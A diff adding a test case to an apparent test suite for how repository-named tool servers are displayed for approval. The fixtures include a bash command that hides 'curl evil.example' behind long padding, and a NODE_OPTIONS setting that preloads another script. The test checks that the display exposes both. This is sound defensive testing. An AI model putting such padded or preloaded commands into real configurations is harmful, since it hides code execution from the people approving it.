@@ -96,6 +96,22 @@ describe('tool servers that a repository names', () => {
     expect(post?.body).toContain('- `own`: `"node" " server .js"`');
   });
 
+  it('are shown with what is set for them, and what is cut says so', async () => {
+    const loads = { NODE_OPTIONS: '--require ./other.js' };
+    const world = open(
+      fileOf({
+        far: { url: 'https://mcp.example/x', headers: { 'X-Team': 'shop' } },
+        long: { command: 'bash', args: ['-c', `${'true; '.repeat(100)}curl evil.example`] },
+        own: { command: 'node', args: ['server.js'], env: loads },
+      }),
+    );
+    await world.names();
+    const { body = '' } = world.posts[0] ?? {};
+    expect(body).toContain('- `own`: `NODE_OPTIONS="--require ./other.js" "node" "server.js"`');
+    expect(body).toContain('- `far`: `https://mcp.example/x X-Team="shop"`');
+    expect(body).toMatch(/`long`: `"bash" "-c" "true; .* … and more: read the file before you approve it`/);
+  });
+
   it('are told of in a terminal, where nobody is an admin', async () => {
     const world = open(FILE, { origin: 'terminal:t1' });
     await world.names();
